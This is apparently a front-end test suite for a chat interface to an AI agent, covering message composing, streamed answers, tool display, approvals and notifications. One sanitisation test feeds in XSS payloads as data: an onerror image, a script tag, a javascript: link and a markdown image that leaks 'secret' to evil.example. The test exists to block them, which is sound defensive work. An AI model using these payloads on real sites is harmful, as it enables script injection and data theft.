// @vitest-environment happy-dom
import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { AppError } from '../../amplify/core/error.ts';
import { createMemoryApi, type MemoryApi } from '../api/memory-api.ts';
import {
  at,
  composer,
  conversationId,
  id,
  openPage,
  openWith,
  press,
  row,
  write,
} from './app-under-test.tsx';

const place = { conversationId, messageId: id };
const log = () => screen.getByRole('log');

test('a conversation that is not there says so and leads on, with no box to write into', async () => {
  openPage(createMemoryApi(), { hash: `#/c/${conversationId}` });
  expect(await screen.findByText('This conversation is not there.')).toBeTruthy();
  expect(screen.queryByRole('textbox', { name: 'Message' })).toBeNull();
  fireEvent.click(within(screen.getByRole('main')).getByRole('link', { name: 'New conversation' }));
  await waitFor(() => expect(composer()).toBeTruthy());
});

describe('writing', () => {
  test('a first message begins a conversation and stands in it', async () => {
    const api = createMemoryApi();
    openPage(api);
    write('Hello there');
    press({});
    await waitFor(() => expect(api.messages.size).toBe(1));
    expect(composer().value).toBe('');
    expect(within(log()).getByText('Hello there')).toBeTruthy();
    expect(screen.getByRole('heading', { level: 1 }).textContent).toBe('Hello there');
    expect(document.activeElement).toBe(composer());
  });

  test('Shift+Enter and the Enter that ends a Korean syllable do not send', () => {
    const api = createMemoryApi();
    openPage(api);
    write('안녕');
    press({ shiftKey: true });
    press({ keyCode: 229 });
    press({ isComposing: true });
    expect(composer().value).toBe('안녕');
    expect(api.calls.some(([field]) => field === 'sendMessage')).toBe(false);
  });

  test('a text that is not sent is there again after a reload, each in its conversation', async () => {
    const { api, unmount, workspace } = await openWith(row({ status: 'answered', answer: 'Noon.' }));
    write('half a thou');
    unmount();
    workspace.close();
    openPage(api, { hash: `#/c/${conversationId}` });
    expect(composer().value).toBe('half a thou');
    act(() => {
      window.location.hash = '#/';
      window.dispatchEvent(new HashChangeEvent('hashchange'));
    });
    await waitFor(() => expect(composer().value).toBe(''));
  });

  test('the box is never locked, whatever the connection does', async () => {
    const { api } = await openWith(row());
    api.offline = true;
    act(() => api.disconnect());
    write('still writing');
    press({});
    expect(await within(log()).findByText('still writing')).toBeTruthy();
    await screen.findByText(/goes out by itself/);
    expect(composer().disabled).toBe(false);
  });

  test('a file that is sent alone is seen before it is there', async () => {
    const { workspace } = await openWith(row({ status: 'answered', answer: 'Noon.' }));
    const file = { id: 'f', name: 'report.pdf', type: 'application/pdf', size: 48_200 };
    act(() => void workspace.outbox.add('', conversationId, [file]));
    expect(within(log()).getByText('report.pdf')).toBeTruthy();
    expect(within(log()).getByText('Sending…')).toBeTruthy();
  });

  test('an example only fills the box', () => {
    const api = createMemoryApi();
    openPage(api);
    fireEvent.click(screen.getByRole('button', { name: /Look around/ }));
    expect(composer().value).toContain('workspace');
    expect(api.calls.some(([field]) => field === 'sendMessage')).toBe(false);
  });

  test('a text that is too long is not sent and not lost', () => {
    const api = createMemoryApi();
    openPage(api);
    write('x'.repeat(32_005));
    press({});
    expect(screen.getByRole('alert').textContent).toContain('5 characters too many');
    expect(composer().value).toHaveLength(32_005);
  });

  test('a refused message keeps its text and can be sent again, edited or discarded', async () => {
    const { api } = await openWith(row({ status: 'answered', answer: 'Noon.' }));
    api.failures.set('sendMessage', new AppError('message.queue_full'));
    write('one more');
    press({});
    await screen.findByText('Not sent.');
    fireEvent.click(screen.getByRole('button', { name: 'Edit' }));
    expect(composer().value).toBe('one more');
    expect(within(log()).queryByText('one more')).toBeNull();
  });
});

describe('an answer', () => {
  test('streams in, and is told to screen readers only when it is finished', async () => {
    const { api } = await openWith(row());
    act(() => api.emit({ kind: 'message.started', ...place, epoch: 1, attempt: 1 }));
    const delta = {
      kind: 'message.delta' as const,
      ...place,
      epoch: 1,
      attempt: 1,
      seq: 1,
      offset: 0,
      text: 'It is **no',
    };
    act(() => api.emit(delta));
    await within(log()).findByText(/no$/);
    expect(log().getAttribute('aria-live')).toBe('off');
    expect(screen.queryByText(/OpenClaw answered: /)).toBeNull();
    const message = row({ status: 'answered', epoch: 1, seq: 2, answer: 'It is **noon**.' });
    act(() => api.emit({ kind: 'message.finished', ...place, message }));
    expect(await screen.findByText('OpenClaw answered: It is noon.')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Stop' })).toBeNull();
  });

  test('can be stopped while it is in work, and while it waits', async () => {
    const { api } = await openWith(row());
    fireEvent.click(screen.getByRole('button', { name: 'Stop' }));
    await waitFor(() => expect(api.calls.at(-1)).toEqual(['stopMessage', conversationId, id]));
    expect(await screen.findByRole('button', { name: 'Stopping…' })).toBeTruthy();
  });

  test('that failed says why and is tried again as the next attempt', async () => {
    const { api } = await openWith(row({ status: 'failed', error: { code: 'model.unreachable' } }));
    expect(screen.getByText(/model/i, { selector: '.outcome p' })).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Retry' }));
    await waitFor(() => expect(api.calls.at(-1)).toEqual(['retryMessage', conversationId, id, 1]));
    await waitFor(() => expect(screen.queryByRole('button', { name: 'Retry' })).toBeNull());
  });

  test('shows its tools in one line each and what they did on demand', async () => {
    const tool = {
      id: 't',
      name: 'exec',
      title: 'date',
      status: 'done' as const,
      at: 0,
      startedAt: at,
      output: 'noon o’clock',
    };
    await openWith(row({ status: 'answered', answer: 'Noon.', tools: [tool] }));
    expect(screen.queryByText('noon o’clock')).toBeNull();
    const details = screen.getByText('date').closest('details') as HTMLDetailsElement;
    act(() => {
      details.open = true;
      details.dispatchEvent(new Event('toggle'));
    });
    expect(await screen.findByText('noon o’clock')).toBeTruthy();
  });

  test('tells its tokens and what they cost, where a price is known', async () => {
    const tokens = { inputTokens: 8214, outputTokens: 642, cachedTokens: 0, cacheWriteTokens: 0 };
    const usage = { ...tokens, reasoningTokens: 0, estimated: false, costMicros: 42_000 };
    await openWith(row({ status: 'answered', answer: 'Noon.', usage }));
    expect(await screen.findByText('8,214 in · 642 out · $0.04')).toBeTruthy();
    expect(screen.getByText('↑8.2K ↓642 · $0.04')).toBeTruthy();
  });

  test('that waits for a yes asks once, with the command', async () => {
    const approval = { id: 'a', command: 'rm -r build', requestedAt: at };
    const { api } = await openWith(row({ status: 'working', epoch: 1, approval }));
    expect(await screen.findByText('rm -r build')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Approve once' }));
    await waitFor(() =>
      expect(api.calls.at(-1)).toEqual(['decideApproval', conversationId, id, 'a', 'allow-once']),
    );
    expect(screen.queryByRole('button', { name: 'Deny' })).toBeNull();
  });

  test('cannot run anything here: no HTML, no scripts in links, no pictures from elsewhere', async () => {
    const answer = [
      '<img src=x onerror="alert(1)"> <script>alert(2)</script>',
      '[bad](javascript:alert(3)) [good](https://example.com)',
      '![secret](https://evil.example/?q=secret)',
    ].join('\n\n');
    await openWith(row({ status: 'answered', answer }));
    const good = await screen.findByRole('link', { name: 'good' });
    expect(good.getAttribute('rel')).toContain('noopener');
    expect(good.getAttribute('target')).toBe('_blank');
    expect(screen.queryByRole('link', { name: 'bad' })).toBeNull();
    expect(log().querySelector('img, script')).toBeNull();
  });
});

describe('a long conversation', () => {
  test('is read page by page, and stands in its order', async () => {
    const api = createMemoryApi();
    api.pageSize = 2;
    api.conversations.set(conversationId, { id: conversationId, title: 'Long', createdAt: at, activeAt: at });
    for (const n of [1, 2, 3]) {
      const acceptedAt = `2026-01-01T00:00:0${n}.000Z`;
      api.put(
        row({
          id: id.replace(/1$/, String(n)),
          text: `question ${n}`,
          status: 'answered',
          acceptedAt,
          answer: 'yes',
        }),
      );
    }
    openPage(api, { hash: `#/c/${conversationId}` });
    await screen.findByText('question 3');
    expect(screen.queryByText('question 1')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'Show earlier messages' }));
    await screen.findByText('question 1');
    const shown = screen.getAllByText(/question \d/).map(({ textContent }) => textContent);
    expect(shown).toEqual(['question 1', 'question 2', 'question 3']);
    expect(screen.queryByRole('button', { name: 'Show earlier messages' })).toBeNull();
  });
});

describe('the agent', () => {
  test('is seen waking, step by step, with the usual time', async () => {
    const { api } = await openWith(row());
    const agent = {
      state: 'waking' as const,
      revision: 2,
      phase: 'restoring' as const,
      medianWakeMs: 31_000,
    };
    act(() =>
      api.emit({ kind: 'agent.changed', agent: { ...agent, wakeStartedAt: new Date().toISOString() } }),
    );
    expect(await screen.findByRole('progressbar', { name: 'Your agent is waking up' })).toBeTruthy();
    expect(screen.getByText('Bringing back its memory')).toBeTruthy();
    expect(screen.getByText(/usually 31 sec/)).toBeTruthy();
  });

  test('may sleep: what was said before can be read', async () => {
    await openWith(row({ status: 'answered', answer: 'It was noon.' }));
    expect(await screen.findByText('It was noon.')).toBeTruthy();
    expect(screen.getByText('Asleep')).toBeTruthy();
  });
});

describe('another user', () => {
  test('sees nothing of the one before', async () => {
    const api = createMemoryApi();
    const { unmount, workspace } = openPage(api);
    api.offline = true;
    write('a secret');
    press({});
    write('a secret draft');
    unmount();
    workspace.close();
    openPage(createMemoryApi(), { user: 'bob', hash: window.location.hash });
    expect(document.body.textContent).not.toContain('secret');
    expect(composer().value).toBe('');
    expect(JSON.stringify({ ...localStorage })).not.toContain('secret');
  });
});

describe('commands', () => {
  test('are opened, found and run by keys, whatever the layout of the keyboard', async () => {
    openPage(createMemoryApi());
    fireEvent.keyDown(window, { key: 'ㅏ', code: 'KeyK', ctrlKey: true });
    const box = await screen.findByRole('combobox', { name: 'What to do or where to go' });
    fireEvent.change(box, { target: { value: 'nothing like this' } });
    expect(screen.getByText('Nothing here has this name.')).toBeTruthy();
    fireEvent.change(box, { target: { value: 'usage' } });
    expect(screen.getByRole('option', { name: /Usage/ }).getAttribute('aria-selected')).toBe('true');
    fireEvent.keyDown(box, { key: 'Enter', keyCode: 229 });
    fireEvent.keyDown(box, { key: 'Enter' });
    expect(await screen.findByRole('heading', { level: 1, name: 'Usage' })).toBeTruthy();
    fireEvent.keyDown(window, { key: 'O', code: 'KeyO', ctrlKey: true, shiftKey: true });
    expect(await screen.findByRole('textbox', { name: 'Message' })).toBeTruthy();
  });
});

describe('an answer that comes while nobody looks at it', () => {
  const elsewhere = '0199a000-0000-7000-8000-00000000000d';
  const message = row({ conversationId: elsewhere, status: 'answered', answer: 'Noon.' });
  const finish = (api: MemoryApi) =>
    act(() =>
      api.emit({ kind: 'message.finished', conversationId: elsewhere, messageId: message.id, message }),
    );
  const openBeside = async () => {
    const page = await openWith(row({ status: 'answered', answer: 'Noon.' }));
    const lunch = { id: elsewhere, title: 'Lunch', createdAt: at, activeAt: at };
    page.api.conversations.set(elsewhere, lunch);
    page.api.put(message);
    act(() =>
      page.api.emit({ kind: 'conversation.changed', conversationId: elsewhere, conversation: lunch }),
    );
    return page;
  };

  test('is told of with a link to it, and counted in the title until it is looked at', async () => {
    const { api } = await openBeside();
    await act(async () => void (await import('../notify/answer-news.tsx')));
    finish(api);
    expect(document.title).toBe('(1) Time · Serverless OpenClaw');
    expect(screen.getByRole('img', { name: 'New answer' }).closest('a')?.textContent).toBe('Lunch');
    const notice = screen.getByText('“Lunch” has an answer.').closest('li') as HTMLElement;
    fireEvent.click(within(notice).getByRole('link', { name: 'Open' }));
    expect(await within(log()).findByText('Noon.')).toBeTruthy();
    expect(document.title).toBe('Lunch · Serverless OpenClaw');
    expect(screen.queryByRole('img', { name: 'New answer' })).toBeNull();
    expect(screen.queryByText('“Lunch” has an answer.')).toBeNull();
  });
});
